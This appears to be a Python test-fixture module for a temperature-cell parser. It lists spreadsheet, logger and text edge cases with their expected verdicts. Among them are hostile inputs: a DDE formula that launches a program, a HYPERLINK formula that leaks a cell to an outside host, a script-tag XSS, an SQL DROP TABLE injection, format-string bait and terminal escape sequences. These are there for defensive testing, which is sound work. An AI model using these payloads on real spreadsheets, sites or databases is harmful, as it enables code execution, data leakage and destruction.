"""Cells of tables: what spreadsheets, loggers and people write where a temperature should be, and what an import makes of it."""

import re
from collections.abc import Iterator
from typing import Final, Literal

from msgspec import Struct

from . import oracle
from .lines import Piece, written


class Cell(Struct, frozen=True, omit_defaults=True, kw_only=True):
    """A cell and its verdict: a reading of so many °C, a rejection with its reason, or nothing said at all."""

    id: str
    entry: str
    text: list[Piece]
    expect: Literal["accept", "reject", "empty"]
    reason: str = ""
    celsius: float | None = None


NUMBER: Final = re.compile(r"([+\-\u2212]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?)\s*([^0-9\s.,][^0-9]*)?", re.ASCII)
AROUND: Final = "\ufeff\u200b\u200e\u200f"
"""What nobody sees, around a cell."""


def verdict(text: str) -> tuple[Literal["accept", "reject", "empty"], str, float | None]:
    """A second reading of cells, by which the product's is judged: verdict, reason, °C."""
    text = text.strip().strip(AROUND).strip()
    if not text:
        return "empty", "", None
    match = NUMBER.fullmatch(text)
    if match is None:
        return "reject", "not-a-number", None
    said = oracle.celsius_of(float(match[1].replace("\u2212", "-")), match[2] or None)
    return ("reject", said, None) if isinstance(said, str) else ("accept", "", said[0])


CELLS: Final[list[tuple[str, str, str | list[Piece], float | str | None]]] = [
    # entry, name, cell, °C or reason; None for a cell that says nothing
    ("spreadsheet", "an error", "#VALUE!", "not-a-number"),
    ("spreadsheet", "not available", "#N/A", "not-a-number"),
    ("spreadsheet", "divided by nought", "#DIV/0!", "not-a-number"),
    ("spreadsheet", "a formula", "=1+1", "not-a-number"),
    ("spreadsheet", "a formula with a program", "=cmd|' /C calc'!A0", "not-a-number"),
    ("spreadsheet", "a formula with a link", '=HYPERLINK("http://x/?"&A1)', "not-a-number"),
    ("spreadsheet", "a formula with an at", "@SUM(1)", "not-a-number"),
    ("spreadsheet", "a formula with a plus", "+21.5+cmd", "unknown-unit"),
    ("spreadsheet", "a date", "21.05.2026", "not-a-number"),
    ("spreadsheet", "a time", "21:30", "not-a-number"),
    ("spreadsheet", "a fraction", "21 1/2", "not-a-number"),
    ("spreadsheet", "percent", "21%", "unknown-unit"),
    ("spreadsheet", "true", "TRUE", "not-a-number"),
    ("spreadsheet", "an apostrophe before the number", "'21.5", "not-a-number"),
    ("separators", "a comma for the point", "21,5", "not-a-number"),
    ("separators", "thousands", "1,234.5", "not-a-number"),
    ("separators", "thousands and a comma", "1.234,5", "not-a-number"),
    ("separators", "two points", "21..5", "not-a-number"),
    ("separators", "three parts", "21.5.1", "not-a-number"),
    ("separators", "an underscore", "1_0", "not-a-number"),
    ("separators", "spaces inside", "2 1.5", "not-a-number"),
    ("separators", "a no-break space inside", "1\u00a0021.5", "not-a-number"),
    ("separators", "a semicolon", "21;5", "not-a-number"),
    ("white space", "nothing", "", None),
    ("white space", "spaces", "   ", None),
    ("white space", "a no-break space", "\u00a0", None),
    ("white space", "a zero-width space", "\u200b", None),
    ("white space", "a byte order mark", "\ufeff", None),
    ("white space", "a no-break space before", "\u00a021.5", 21.5),
    ("white space", "a byte order mark before", "\ufeff21.5", 21.5),
    ("white space", "a zero-width space behind", "21.5\u200b", 21.5),
    ("white space", "a narrow no-break space before the unit", "21.5\u202f°C", 21.5),
    ("white space", "a line break", "21.5\n", 21.5),
    ("white space", "a line break inside", "21\n.5", "not-a-number"),
    ("signs", "plus", "+21.5", 21.5),
    ("signs", "minus", "-4.5", -4.5),
    ("signs", "a minus sign that is no hyphen", "\u22124.5", -4.5),
    ("signs", "an en dash", "\u20134.5", "not-a-number"),
    ("signs", "two", "--4.5", "not-a-number"),
    ("signs", "only a dash", "-", "not-a-number"),
    ("signs", "brackets for minus", "(4.5)", "not-a-number"),
    ("digits", "full-width", "２１", "not-a-number"),
    ("digits", "Arabic", "٢١", "not-a-number"),
    ("digits", "Devanagari", "२१", "not-a-number"),
    ("digits", "a half", "21½", "unknown-unit"),
    ("digits", "a superscript", "21²", "unknown-unit"),
    ("digits", "hexadecimal", "0x15", "not-a-number"),
    ("digits", "a point at the end", "21.", 21.0),
    ("digits", "a point at the beginning", ".5", 0.5),
    ("digits", "only a point", ".", "not-a-number"),
    ("digits", "leading noughts", "0021.5", 21.5),
    ("digits", "minus nought", "-0.0", 0.0),
    ("digits", "an exponent", "2.15e1", 21.5),
    ("digits", "half an exponent", "21e", "unknown-unit"),
    ("digits", "60,000", [("2", 60_000)], "not-finite"),
    ("digits", "60,000 behind the point", ["21.", ("0", 60_000)], 21.0),
    ("not finite", "nan", "NaN", "not-a-number"),
    ("not finite", "inf", "-inf", "not-a-number"),
    ("not finite", "1e400", "1e400", "not-finite"),
    ("not finite", "-1e400", "-1e400", "not-finite"),
    ("not finite", "1e-400", "1e-400", 0.0),
    ("not finite", "the largest float", "1e308", 1e308),
    ("error codes", "what a DS18B20 says when it is gone", "-127", -127.0),
    ("error codes", "85", "85.0", 85.0),
    ("error codes", "colder than absolute zero", "-273.16", "below-absolute-zero"),
    ("error codes", "-9999", "-9999", "below-absolute-zero"),
    ("error codes", "a word", "ERR", "not-a-number"),
    ("error codes", "a letter and a number", "E80", "not-a-number"),
    ("error codes", "a letter and a number, with a sign", "-e0", "not-a-number"),
    ("error codes", "null", "null", "not-a-number"),
    ("units", "Celsius", "21.5 °C", 21.5),
    ("units", "Fahrenheit", "75.2 °F", 24.0),
    ("units", "kelvin", "297.15 K", 24.0),
    ("units", "parts per million", "21 ppm", "unknown-unit"),
    ("units", "an escape sequence", "21 \x1b[2J", "not-a-number"),
    ("units", "a control character", "21 \x1bC", "unknown-unit"),
    ("units", "a quotation mark", '21 "', "unknown-unit"),
    ("units", "a backslash", "21 \\", "unknown-unit"),
    ("units", "60,000 letters", ["21 ", ("C", 60_000)], "unknown-unit"),
    ("units", "text from right to left", "21 \u202eC", "unknown-unit"),
    ("texts", "JSON", '{"value":21.5}', "not-a-number"),
    ("texts", "a script", "<script>alert(1)</script>", "not-a-number"),
    ("texts", "SQL", "'; DROP TABLE chunks; --", "not-a-number"),
    ("texts", "format bait", "{0.__class__}%s%n", "not-a-number"),
    ("texts", "text from right to left", "\u202e5.12", "not-a-number"),
    ("texts", "an escape sequence", "\x1b]0;owned\x07", "not-a-number"),
    ("texts", "a line separator", "a\u2028b", "not-a-number"),
    ("texts", "a NUL", "21.5\x00", "unknown-unit"),
    ("texts", "only a NUL", "\x00", "not-a-number"),
]


def lines() -> Iterator[Cell]:
    """All of them. Raises where the second reading disagrees with what a cell deserves."""
    for number, (entry, name, text, expected) in enumerate(CELLS, 1):
        pieces: list[Piece] = [text] if isinstance(text, str) else text
        expect, reason, celsius = verdict(written(pieces).decode())
        found = None if expect == "empty" else reason or celsius
        if found != expected:
            msg = f"{entry}, {name}: {expected} was expected, the second reading says {found}"
            raise AssertionError(msg)
        yield Cell(id=f"cells.{number:02} {name}", entry=entry, text=pieces, expect=expect, reason=reason, celsius=celsius)
